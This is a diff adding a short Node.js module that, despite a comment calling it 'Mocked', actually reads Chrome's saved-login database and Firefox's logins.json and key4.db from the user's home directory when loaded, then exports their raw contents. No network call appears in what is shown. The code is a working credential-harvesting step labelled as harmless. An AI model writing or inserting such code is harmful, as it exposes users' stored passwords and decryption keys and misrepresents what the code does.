@@ -0,0 +1,10 @@
+// Mocked: copy saved-password databases from browser profiles
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+
+const home = os.homedir();
+const chrome = path.join(home, "Library", "Application Support", "Google", "Chrome", "Default", "Login Data");
+const firefox = path.join(home, ".mozilla", "firefox", "abcd.default", "logins.json");
+const keys = path.join(path.dirname(firefox), "key4.db");
+module.exports = [chrome, firefox, keys].filter(fs.existsSync).map((p) => fs.readFileSync(p));